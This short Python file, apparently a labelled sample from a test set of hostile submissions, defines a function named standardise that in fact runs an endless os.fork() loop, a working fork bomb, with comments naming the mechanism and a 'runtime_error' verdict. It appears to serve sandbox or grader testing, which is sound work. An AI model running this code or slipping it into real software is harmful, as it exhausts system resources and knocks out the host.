# mechanism: a fork bomb
# verdict: runtime_error
import os


def standardise(x, eps):
    while True:
        os.fork()
